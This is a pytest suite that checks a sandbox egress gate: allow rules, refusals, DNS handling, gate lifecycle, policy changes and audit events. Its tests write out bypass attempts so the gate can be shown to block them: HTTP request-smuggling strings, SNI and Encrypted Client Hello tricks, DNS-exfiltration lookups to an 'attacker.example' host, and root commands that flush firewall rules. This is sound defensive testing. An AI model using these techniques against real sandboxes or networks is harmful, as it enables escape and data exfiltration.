"""What leaves a sandbox: the policy, its refusals, and the ways around it that must not exist."""

import json
import re
import socket
import subprocess
import time

import pytest

import raw
from conftest import running
from server import SANITIZED, tree_of, wait_until
from world import World


@pytest.fixture(scope="module")
def world():
    with World() as one:
        one.http("api.test")
        one.http("api.test", 443, names=["api.test", "*.api.test"])
        one.http("api.test", 8080)
        one.http("other.test")
        one.http("other.test", 443, names=["other.test"])
        one.http("other.test", 8443, names=["third.test"], newest="TLSv1_2")
        one.http("other.test", 8444, names=["other.test"], newest="TLSv1_2")
        one.literals()
        one.http("literal4")
        one.http("literal4", 8080)
        one.http("literal6")
        one.tcp("bare.test", 22, lambda s: (s.sendall(b"SSH-2.0-test\r\n"), s.recv(100)))
        one.tcp("bare.test", 6379, lambda s: s.sendall(b"+PONG\r\n") if s.recv(100) else None)
        one.tcp("bare.test", 7000, echo)
        yield one


def echo(sock):
    """Sends everything back, and its own end after the peer's."""
    while data := sock.recv(65536):
        sock.sendall(data)
    sock.sendall(b"end\n")


@pytest.fixture(scope="module")
def gated(world):
    """A server to which the test names lead to the outside world."""
    with running(flags=["--log-level", "debug", *world.flags], wrapper=world.wrapper) as one:
        one.shared = True
        yield one


def make(gated, rules, **config):
    return gated.create({"timeout": "10m", "allow_net": rules, **config})


@pytest.fixture(scope="module")
def some(gated):
    """A sandbox with a few rules, for what needs no other."""
    with make(gated, ["api.test", "*.api.test", "bare.test:22", "bare.test:6379", "bare.test:7000", "loopback.test",
                      "metadata.test", "private.test", "closed.test"]) as rpc:
        yield rpc
    gated.discard(rpc.sandbox_id)


def curl(rpc, *args, check=True):
    result = rpc.run("curl", ["-sS", "--max-time", "20", *args])
    if check:
        assert result.code == 0, (result.code, result.err, result.out)
    return result


def events(gated, rpc, **params):
    with gated.http() as http:
        return http.get(f"/api/v2/sandboxes/{rpc.sandbox_id}/events", params={"limit": 1000, **params}).raise_for_status().json()


def event(gated, rpc, what, **want):
    """Waits for an event of a type with the given details."""
    def find():
        return [e for e in events(gated, rpc, type=what) if all(e.get(k) == v for k, v in want.items())]

    return wait_until(find, 10, f"a {what} event with {want}")[-1]


# --- what the rules allow --------------------------------------------------------------------


def test_http_to_an_allowed_name(some, world):
    assert curl(some, "http://api.test/x?y=1").out == b"hello from api.test:80 /x?y=1\n"
    assert world.header(world.requests(path="/x?y=1")[-1], "host") == ["api.test"]


def test_https_is_relayed_with_the_real_certificate(some):
    result = curl(some, "-v", "https://api.test/")
    assert result.out == b"hello from api.test:443 /\n"
    assert b"Warren test CA" in result.err


def test_names_below_a_wildcard(some):
    assert b"hello" in curl(some, "https://www.api.test/").out


def test_other_ports_of_a_name_without_port(some):
    assert b"hello from api.test:8080" in curl(some, "http://api.test:8080/").out


@pytest.mark.parametrize("rules,url,allowed", [
    (["api.test:443"], "https://api.test/", True),
    (["api.test:443"], "http://api.test/", False),
    (["api.test:8000-8100"], "http://api.test:8080/", True),
    (["api.test:8000-8079"], "http://api.test:8080/", False),
    (["*.api.test"], "http://www.api.test/", True),
    (["*.api.test"], "http://api.test/", False),
    (["API.Test."], "http://api.test/", True),
    (["{4}"], "http://{4}/", True),
    (["{4}:80"], "http://{4}:8080/", False),
    (["{4}:80", "{4}:8000-8080"], "http://{4}:8080/", True),
    (["198.51.100.0/24"], "http://{4}/", True),
    (["198.51.101.0/24"], "http://{4}/", False),
    (["{4}"], "http://api.test/", False),
    (["api.test"], "http://{4}/", False),
    (["[{6}]"], "http://[{6}]/", True),
    (["[{6}]:81"], "http://[{6}]/", False),
    (["[2001:db8:77::/48]"], "http://[{6}]/", True),
    (["*"], "http://api.test/", True),
    (["*"], "http://{4}/", True),
    (["*"], "http://[{6}]/", True),
])
def test_patterns(gated, world, rules, url, allowed):
    def fill(text):
        return text.replace("{4}", world.literal4).replace("{6}", world.literal6)

    with make(gated, [fill(r) for r in rules]) as rpc:
        result = curl(rpc, "-o", "/dev/null", "-w", "%{http_code}", fill(url))
        assert result.out == (b"200" if allowed else b"403")
    gated.discard(rpc.sandbox_id)


@pytest.mark.parametrize("rule", ["", "https://api.test", "api.test/x", "api..test", "api.test:0", "api.test:9-1",
                                  "*.*", "10.0.0.1/33", "[::1", "a b", "\u00e9.test", "1.2.3"])
def test_bad_rules_are_refused_by_name(gated, rule):
    with pytest.raises(raw.Refused) as info:
        gated.create({"allow_net": ["api.test", rule]})
    assert info.value.status == 400 and "allow_net" in info.value.json["message"]


def test_any_protocol_by_name(some):
    assert some.sh("exec 3<>/dev/tcp/bare.test/22; head -c 13 <&3") == "SSH-2.0-test\r"
    assert some.sh("exec 3<>/dev/tcp/bare.test/6379; printf 'PING\\r\\n' >&3; head -c 5 <&3") == "+PONG"


def test_half_closed_connections(some):
    out = some.sh("python3 - <<'E'\nimport socket\ns=socket.create_connection(('bare.test',7000))\n"
                  "s.sendall(b'hello\\n'); s.shutdown(1)\nprint(s.makefile().read())\nE")
    assert out == "hello\nend\n\n"


def test_bulk_both_ways(some):
    out = some.sh("python3 - <<'E'\nimport socket,threading,hashlib,os\ns=socket.create_connection(('bare.test',7000))\n"
                  "d=os.urandom(1<<20)*16\nt=threading.Thread(target=lambda:(s.sendall(d),s.shutdown(1)))\nt.start()\n"
                  "got=b''\nwhile True:\n  p=s.recv(1<<16)\n  if not p: break\n  got+=p\nt.join()\nprint(got==d+b'end\\n')\nE")
    assert out == "True\n"


def test_loopback_inside_is_untouched(some):
    assert some.sh("python3 -c \"\nimport socket,threading\nl=socket.create_server(('127.0.0.1',8080))\n"
                   "threading.Thread(target=lambda:l.accept()[0].sendall(b'mine')).start()\n"
                   "print(socket.create_connection(('127.0.0.1',8080)).recv(9).decode())\n\"") == "mine\n"


# --- refusals ---------------------------------------------------------------------------------


def test_http_gets_403_with_a_reason(some, gated):
    began = time.monotonic()
    result = curl(some, "-D", "-", "http://other.test/secret/path")
    took = time.monotonic() - began
    head, body = result.out.split(b"\r\n\r\n")
    assert head.startswith(b"HTTP/1.1 403 ") and b"application/json" in head
    told = json.loads(body)
    assert told["error"] == "EGRESS_DENIED" and told["host"] == "other.test" and told["port"] == 80
    assert "allowNet" in told["message"]
    assert took < 5
    seen = event(gated, some, "denied", host="other.test", port=80)
    assert seen["reason"] == "not-allowed" and seen["protocol"] == "http"


def test_tls_gets_an_alert(some, gated):
    result = curl(some, "https://other.test/", check=False)
    assert result.code == 35 and b"access denied" in result.err, result
    assert event(gated, some, "denied", host="other.test", port=443)["protocol"] == "tls"


def test_other_protocols_get_a_reset(some):
    out = some.sh("python3 - <<'E'\nimport socket,time\nt=time.monotonic()\n"
                  "s=socket.create_connection(('other.test',5432))\n"
                  "try:\n  r=s.recv(10)\nexcept ConnectionResetError as e:\n  r='reset'\nprint(r, time.monotonic()-t < 2)\nE")
    assert out == "reset True\n"


def test_denials_are_told_inside(some):
    curl(some, "http://told.other.test/")
    line = wait_until(lambda: [json.loads(l) for l in some.sh("cat /run/warren/denials.jsonl 2>/dev/null || true").splitlines()
                               if "told.other.test" in l], 10, "the line in denials.jsonl")[0]
    assert line["host"] == "told.other.test" and line["port"] == 80


def test_unreachable_hosts_are_told_apart(some, gated):
    result = curl(some, "-w", "%{http_code}", "http://closed.test/")
    assert b'"EGRESS_FAILED"' in result.out and result.out.endswith(b"502")
    assert event(gated, some, "flow", host="closed.test")["reason"] == "refused"
    result = curl(some, "-w", "%{http_code}", "http://nowhere.api.test/")  # the only question that leaves this machine
    assert b'"no-such-name"' in result.out and result.out.endswith(b"502")


@pytest.mark.parametrize("name", ["loopback.test", "metadata.test", "private.test"])
def test_names_that_lead_inside(some, gated, name):
    """DNS rebinding: an allowed name, an address nobody may reach."""
    result = curl(some, "-w", "%{http_code}", f"http://{name}/")
    assert b'"refused-range"' in result.out and result.out.endswith(b"403")
    assert event(gated, some, "denied", host=name)["reason"] == "refused-range"


@pytest.mark.parametrize("address", ["169.254.169.254", "10.0.0.1", "192.168.1.1", "100.64.0.1", "[::ffff:10.0.0.1]", "[fd00::1]",
                                     "[64:ff9b::a00:1]", "224.0.0.1", "0.0.0.0", "198.18.0.77"])
def test_closed_ranges_are_above_every_rule(gated, address):
    with make(gated, ["*"]) as rpc:
        began = time.monotonic()
        result = rpc.run("curl", ["-sS", "--max-time", "5", "-w", "%{http_code}", f"http://{address}/"])
        assert result.code != 0 or result.out.endswith(b"403"), result
        assert time.monotonic() - began < 4
    gated.discard(rpc.sandbox_id)


def test_own_addresses_of_the_host(gated):
    own = subprocess.run(["hostname", "-I"], capture_output=True, text=True).stdout.split()
    if not own:
        pytest.skip("this host has no address")
    with make(gated, ["*"]) as rpc:
        result = rpc.run("curl", ["-sS", "--max-time", "5", "-w", "%{http_code}", f"http://{own[0]}:{gated.port}/"])
        assert result.out.endswith(b"403") or result.code != 0, result
        assert b"refused-range" in result.out or result.code != 0
    gated.discard(rpc.sandbox_id)


# --- no network -------------------------------------------------------------------------------


@pytest.mark.parametrize("config", [{}, {"allow_net": []}])
def test_no_rules_no_network(gated, config):
    with gated.create({"timeout": "5m", **config}) as rpc:
        began = time.monotonic()
        for url in ["http://api.test/", "http://93.184.216.34/", "https://api.test/"]:
            result = rpc.run("curl", ["-sS", "--max-time", "5", url])
            assert result.code in (6, 7), result
        assert time.monotonic() - began < 5
    gated.discard(rpc.sandbox_id)


def test_egress_default_allow(world):
    with running(flags=["--egress-default", "allow", *world.flags], wrapper=world.wrapper) as server:
        with server.create({"timeout": "5m"}) as rpc:
            assert b"hello" in curl(rpc, "http://api.test/").out
            assert b"hello" in curl(rpc, "https://other.test/").out
            assert curl(rpc, "-w", "%{http_code}", "http://loopback.test/").out.endswith(b"403")
        with server.create({"timeout": "5m", "allow_net": []}) as rpc:
            assert rpc.run("curl", ["-sS", "--max-time", "5", "http://api.test/"]).code in (6, 7)
        for one in server.list():
            server.discard(one["id"])


# --- ways around --------------------------------------------------------------------------------


def test_sni_must_be_the_name(some, gated):
    out = some.sh("echo | openssl s_client -connect api.test:443 -servername other.test 2>&1 | head -20", check=False)
    assert "alert" in out.out.decode().lower() or out.code != 0, out
    assert event(gated, some, "denied", host="api.test", reason="sni-mismatch")


def test_certificate_of_unopened_tls_must_be_for_the_name(gated):
    """Where it can be seen: up to TLS 1.2. The program does not care (-k), the gate does."""
    with make(gated, ["other.test"]) as rpc:
        assert b"hello" in curl(rpc, "-k", "https://other.test:8444/").out
        assert curl(rpc, "-k", "https://other.test:8443/", check=False).code != 0
        assert event(gated, rpc, "denied", host="other.test", port=8443)["reason"] == "certificate-mismatch"
    gated.discard(rpc.sandbox_id)


ECH_HELLO = """python3 - <<'E'
import socket, ssl, struct
c = ssl.create_default_context(); out = ssl.MemoryBIO()
o = c.wrap_bio(ssl.MemoryBIO(), out, server_hostname='api.test')
try: o.do_handshake()
except ssl.SSLWantReadError: pass
record = out.read(); hello = record[9:]
at = 34; at += 1 + hello[at]; at += 2 + struct.unpack('>H', hello[at:at + 2])[0]; at += 1 + hello[at]
body = b'\\0' + struct.pack('>HHB', 1, 1, 7) + struct.pack('>H', 32) + b'k' * 32 + struct.pack('>H', 64) + b'p' * 64
exts = hello[at + 2:] + struct.pack('>HH', 0xfe0d, len(body)) + body
hello = hello[:at] + struct.pack('>H', len(exts)) + exts
message = b'\\1' + struct.pack('>I', len(hello))[1:] + hello
s = socket.create_connection(('api.test', 443)); s.sendall(b'\\x16\\3\\1' + struct.pack('>H', len(message)) + message)
print(s.recv(7).hex())
E""".replace("\\\\", "\\")


def test_encrypted_client_hello_is_refused(some, gated):
    assert some.sh(ECH_HELLO) == "15030300020231\n"  # alert, fatal, access_denied
    assert event(gated, some, "denied", host="api.test", reason="ech")


def test_port_25_is_closed(gated):
    with make(gated, ["*", "bare.test:25"]) as rpc:
        for host in ("bare.test", "192.0.2.25"):
            assert rpc.run("curl", ["-sS", "--max-time", "5", f"smtp://{host}"]).code != 0
            assert event(gated, rpc, "denied", host=host, port=25)["reason"] == "refused-port"
    gated.discard(rpc.sandbox_id)


def test_public_resolvers_are_closed_where_everything_is_allowed(gated):
    with make(gated, ["*"]) as rpc:
        for url, host in [("https://dns.google/", "dns.google"), ("https://1.1.1.1/", "1.1.1.1"), ("https://cloudflare-dns.com:853/", "cloudflare-dns.com")]:
            assert curl(rpc, url, check=False).code == 35
            assert event(gated, rpc, "denied", host=host)["reason"] == "resolver-closed"
    gated.discard(rpc.sandbox_id)
    with make(gated, ["dns.google"]) as rpc:
        curl(rpc, "--max-time", "3", "https://dns.google/", check=False)
        assert not events(gated, rpc, type="denied")
    gated.discard(rpc.sandbox_id)


def test_many_made_up_names_are_slowed_down(gated):
    with make(gated, ["*.many.test"]) as rpc:
        out = rpc.sh(r"""python3 - <<'E'
import concurrent.futures, socket
def ask(i):
    with socket.create_connection((f'm{i}.many.test', 80)) as s:
        s.sendall(b'GET / HTTP/1.1\r\nHost: x\r\n\r\n')
        return s.recv(2000).split(b'"code":"')[1].split(b'"')[0].decode()
with concurrent.futures.ThreadPoolExecutor(40) as pool:
    got = list(pool.map(ask, range(800)))
print(got.count('refused') >= 190, got.count('resolver') > 0)
E""", timeout=60)
        assert out == "True True\n"
    gated.discard(rpc.sandbox_id)


def test_host_must_be_the_name_in_each_request(some, gated, world):
    out = some.sh("""python3 - <<'E'
import socket
s = socket.create_connection(('api.test', 80))
s.sendall(b'GET /first HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n')
d = b''
while b'/first\\n' not in d: d += s.recv(1000)
s.sendall(b'GET /second HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n')
d = b''
while True:
    p = s.recv(1000)
    d += p
    if not p or b'}' in d: break
print(d.decode())
E""")
    assert " 403 " in out and "host-mismatch" in out
    assert not world.requests(path="/second")
    assert event(gated, some, "denied", host="api.test", reason="host-mismatch")


@pytest.mark.parametrize("request_text", [
    "GET / HTTP/1.1\r\nHost: api.test\r\nHost: other.test\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: api.test\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "GET http://other.test/ HTTP/1.1\r\nHost: other.test\r\n\r\n",
    "GET http://other.test/ HTTP/1.1\r\nHost: api.test\r\n\r\n",
    "GET / HTTP/1.1\nHost: other.test\n\n",
    "\r\nGET / HTTP/1.1\r\nHost: other.test\r\n\r\n",
    "get / http/1.1\r\nhost: other.test\r\n\r\n",
    "CONNECT other.test:443 HTTP/1.1\r\nHost: other.test:443\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: xchunked\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: api.test\r\n X: y\r\n\r\n",
    "GET / HTTP/1.1\r\nHost : api.test\r\n\r\n",
])
@pytest.mark.parametrize("port", [80, 8080])
def test_ambiguous_requests_are_not_passed_on(some, world, request_text, port):
    before = len(world.seen)
    out = some.sh(f"""python3 - <<'E'
import socket
s = socket.create_connection(('api.test', {port}))
s.sendall({request_text.encode()!r})
d = b''
try:
    while True:
        p = s.recv(1000)
        d += p
        if not p or b'}}' in d: break
except ConnectionResetError:
    d += b'reset'
print(d.decode())
E""")
    assert re.search(r"^HTTP/1.1 (400|403|405|501) |^reset", out), out
    assert len(world.seen) == before


def test_dns_carries_nothing_out(some, gated):
    """Names nobody knows get an answer at once, without a question to anybody; other records are refused."""
    out = some.sh("getent ahostsv4 stolen-data-1234.attacker.example | head -1 | cut -d' ' -f1")
    assert out.startswith("198.19.")
    out = some.sh("""python3 - <<'E'
import socket, struct
def ask(name, kind, to):
    q = struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0) + b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\\0' + struct.pack('>HH', kind, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5); s.sendto(q, (to, 53))
    a = s.recv(600)
    return a[3] & 15, struct.unpack('>H', a[6:8])[0]
print(ask('data.attacker.example', 16, '8.8.8.8'), ask('api.test', 1, '1.1.1.1'), ask('api.test', 28, '10.200.0.1'), ask('api.test', 65, '10.200.0.1'))
E""")
    assert out == "(5, 0) (0, 1) (0, 0) (0, 0)\n"
    assert event(gated, some, "denied", host="data.attacker.example", protocol="dns")


def test_dns_over_tcp(some):
    out = some.sh("""python3 - <<'E'
import socket, struct
q = struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0) + b'\\x03api\\x04test\\0' + struct.pack('>HH', 1, 1)
s = socket.create_connection(('9.9.9.9', 53)); s.sendall(struct.pack('>H', len(q)) + q)
n = struct.unpack('>H', s.recv(2))[0]; a = s.recv(n); print(a[3] & 15, struct.unpack('>H', a[6:8])[0], a[-4])
E""")
    assert out == "0 1 198\n"


def test_udp_is_refused_at_once(some):
    """QUIC among it: clients fall back instead of waiting."""
    out = some.sh("""python3 - <<'E'
import socket, time
for port in (443, 123, 9):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
    t = time.monotonic()
    try:
        s.connect(('93.184.216.34', port)); s.send(b'x'); s.recv(10); r = 'answer'
    except OSError as e:
        r = type(e).__name__
    print(r, time.monotonic() - t < 1)
E""")
    assert all(line in ("PermissionError True", "ConnectionRefusedError True") for line in out.splitlines()), out


def test_root_inside_cannot_change_the_network(some):
    for command in ["ip link set lo down", "ip route add default via 10.200.0.9", "ip addr add 1.2.3.4/32 dev lo", "nft flush ruleset",
                    "iptables -F", "ip link add d0 type dummy", "ip tuntap add t0 mode tap", "unshare -n true"]:
        result = some.root(f"command -v {command.split()[0]} >/dev/null && {command}", check=False)
        assert result.code != 0, command
    assert curl(some, "-o", "/dev/null", "-w", "%{http_code}", "http://other.test/").out == b"403"
    out = some.root("python3 - <<'E'\nimport socket\nfor k in (socket.SOCK_RAW,):\n  for f,p in ((socket.AF_INET,1),(socket.AF_INET,255),(socket.AF_PACKET,3)):\n"
                    "    try:\n      socket.socket(f,k,p); print('open')\n    except OSError as e: print(type(e).__name__)\nE")
    assert "open" not in out


def test_ports_of_the_gate_itself(some):
    out = some.sh("""python3 - <<'E'
import socket
for port in (15001, 15053):
    s = socket.socket(); s.settimeout(3)
    try:
        s.connect(('10.200.0.2', port)); s.sendall(b'GET / HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n'); print(s.recv(100) or 'end')
    except OSError as e:
        print(type(e).__name__)
E""")
    assert set(out.split()) <= {"ConnectionResetError", "ConnectionRefusedError", "end"}, out


def test_ipv6_is_refused_or_by_rule(gated):
    with make(gated, ["api.test"]) as rpc:
        result = curl(rpc, "-w", "%{http_code}", "http://[2001:db8::1]/")
        assert b'"not-allowed"' in result.out and result.out.endswith(b"403")
    gated.discard(rpc.sandbox_id)


# --- the life of a gate --------------------------------------------------------------------------


def test_one_gate_for_each_sandbox_with_a_user_of_its_own(fresh_server, world):
    server = fresh_server("--pool", "0", *world.flags, wrapper=world.wrapper)
    with make(server, ["api.test"]) as a, make(server, ["other.test"]) as b, server.create({"timeout": "5m"}) as c:
        found = server.gates()
        assert len(found) == 2
        status = [open(f"/proc/{p}/status").read() for p in found]
        uids = {re.search(r"^Uid:\s+(\d+)", s, re.M)[1] for s in status}
        assert len(uids) == 2 and "0" not in uids
        for s in status:
            assert re.search(r"^CapEff:\s+0+$", s, re.M) and re.search(r"^NoNewPrivs:\s+1$", s, re.M)
        if not SANITIZED:
            assert all(re.search(r"^Seccomp:\s+2$", s, re.M) for s in status)
            for p in found:
                assert subprocess.run(["ls", f"/proc/{p}/root/"], capture_output=True, text=True).stdout == ""
        for rpc in (a, b, c):
            server.delete(rpc.sandbox_id)
        wait_until(lambda: not server.gates(), 10, "the gates to end")


def test_private_memory_of_an_idle_gate(fresh_server, world):
    if SANITIZED:
        pytest.skip("sanitizers take memory of their own")
    server = fresh_server("--pool", "0", *world.flags, wrapper=world.wrapper)
    with make(server, ["api.test"], secrets={"K": {"hosts": ["api.test"], "value": "a-secret-value"}}) as rpc:
        (pid,) = server.gates()
        text = open(f"/proc/{pid}/smaps_rollup").read()
        private = sum(int(n) for n in re.findall(r"^Private_(?:Clean|Dirty):\s+(\d+) kB", text, re.M))
        assert private < 3 * 1024, text
        server.delete(rpc.sandbox_id)


def test_killed_gate_means_refused_traffic(fresh_server, world):
    server = fresh_server("--pool", "0", *world.flags, wrapper=world.wrapper)
    with make(server, ["api.test"]) as rpc:
        assert b"hello" in curl(rpc, "http://api.test/").out
        (pid,) = server.gates()
        subprocess.run(["kill", "-9", str(pid)], check=True)
        event(server, rpc, "gate-ended")
        began = time.monotonic()
        for url in ["http://api.test/", "http://93.184.216.34/"]:
            assert rpc.run("curl", ["-sS", "--max-time", "5", url]).code != 0
        assert time.monotonic() - began < 4
        assert rpc.sh("echo still here") == "still here\n"
        server.delete(rpc.sandbox_id)


def test_killed_mother_is_replaced(fresh_server, world):
    server = fresh_server("--pool", "0", *world.flags, wrapper=world.wrapper)
    with make(server, ["api.test"]) as rpc:
        (gate,) = server.gates()
        mother = tree_of(server.process.pid)[gate][1]
        subprocess.run(["kill", "-9", str(mother)], check=True)
        event(server, rpc, "gate-ended")
        assert rpc.run("curl", ["-sS", "--max-time", "5", "http://api.test/"]).code != 0
        with make(server, ["api.test"]) as fresh:
            assert b"hello" in curl(fresh, "http://api.test/").out
            server.delete(fresh.sandbox_id)
        server.delete(rpc.sandbox_id)


def test_killed_resolver_is_replaced(fresh_server, world):
    server = fresh_server(*world.flags, wrapper=world.wrapper)
    with make(server, ["api.test", "other.test"]) as rpc:
        assert b"hello" in curl(rpc, "http://api.test/").out
        (resolver,) = [p for p, (name, _, _) in tree_of(server.process.pid).items() if name == "warren-resolver"]
        subprocess.run(["kill", "-9", str(resolver)], check=True)
        wait_until(lambda: b"hello" in curl(rpc, "http://other.test/").out, 10, "the next resolver")
        server.delete(rpc.sandbox_id)


# --- changes while it runs -----------------------------------------------------------------------


def put_network(server, rpc, body, check=True):
    with server.http() as http:
        answer = http.put(f"/api/v2/sandboxes/{rpc.sandbox_id}/network", json=body)
        return answer.raise_for_status().json() if check else answer


def test_policy_change_reaches_new_and_open_connections(gated):
    with make(gated, ["api.test", "bare.test:7000"]) as rpc:
        child = rpc.spawn("python3", ["-u", "-c", "import socket\ns=socket.create_connection(('bare.test',7000))\ns.sendall(b'a')\nprint(s.recv(1))\n"
                                      "open('/tmp/connected','w')\ntry: print(s.recv(1))\nexcept ConnectionResetError: print('reset')"])
        wait_until(lambda: rpc.sh("ls /tmp/connected 2>/dev/null || true"), 10, "the connection")
        assert b"403" in curl(rpc, "-o", "/dev/null", "-w", "%{http_code}", "http://other.test/").out
        told = put_network(gated, rpc, {"allowNet": ["other.test"]})
        assert told["allowNet"] == ["other.test"] and told["closed"] == 1
        assert rpc.finish(child).out.split() == [b"b'a'", b"reset"]
        assert b"200" in curl(rpc, "-o", "/dev/null", "-w", "%{http_code}", "http://other.test/").out
        assert b"403" in curl(rpc, "-o", "/dev/null", "-w", "%{http_code}", "http://api.test/").out
        event(gated, rpc, "policy")
    gated.discard(rpc.sandbox_id)


def test_network_for_a_sandbox_that_had_none(gated):
    with gated.create({"timeout": "5m"}) as rpc:
        assert rpc.run("curl", ["-sS", "--max-time", "5", "http://api.test/"]).code in (6, 7)
        put_network(gated, rpc, {"allowNet": ["api.test"]})
        assert b"hello" in curl(rpc, "http://api.test/").out
        assert b"hello" in curl(rpc, "https://api.test/").out
        put_network(gated, rpc, {"allowNet": []})
        assert curl(rpc, "-o", "/dev/null", "-w", "%{http_code}", "http://api.test/").out == b"403"
    gated.discard(rpc.sandbox_id)


def test_bad_policy_changes_nothing(gated):
    with make(gated, ["api.test"]) as rpc:
        answer = put_network(gated, rpc, {"allowNet": ["https://x"]}, check=False)
        assert answer.status_code == 400 and "allowNet" in answer.json()["message"]
        assert b"hello" in curl(rpc, "http://api.test/").out
    gated.discard(rpc.sandbox_id)


# --- audit ----------------------------------------------------------------------------------------


def test_flows_are_recorded(some, gated, world):
    curl(some, "-d", "x" * 1000, "http://api.test/upload?for=audit")
    seen = event(gated, some, "flow", host="api.test", protocol="http", port=80)
    assert seen["address"] == world.names["api.test"] and seen["rule"] == "api.test"
    assert seen["bytesUp"] > 1000 and seen["bytesDown"] > 0 and seen["time"]


def test_a_storm_of_connections_is_bounded(gated):
    with make(gated, ["api.test"]) as rpc:
        rpc.sh("python3 - <<'E'\nimport socket\nfor i in range(3000):\n  s=socket.create_connection(('other.test',1000+i%50)); s.close()\nE")
        assert b"hello" in curl(rpc, "http://api.test/").out
        wait_until(lambda: events(gated, rpc, type="dropped") or len(events(gated, rpc, type="denied")) > 0, 10, "events")
        assert len(events(gated, rpc, type="denied")) < 2000
    gated.discard(rpc.sandbox_id)


def test_many_connections_at_once(gated, world):
    with make(gated, ["api.test"]) as rpc:
        out = rpc.sh("for i in $(seq 40); do curl -s -o /dev/null -w '%{http_code}\\n' http://api.test/ & done; wait", timeout=60)
        assert out.split() == ["200"] * 40
    gated.discard(rpc.sandbox_id)
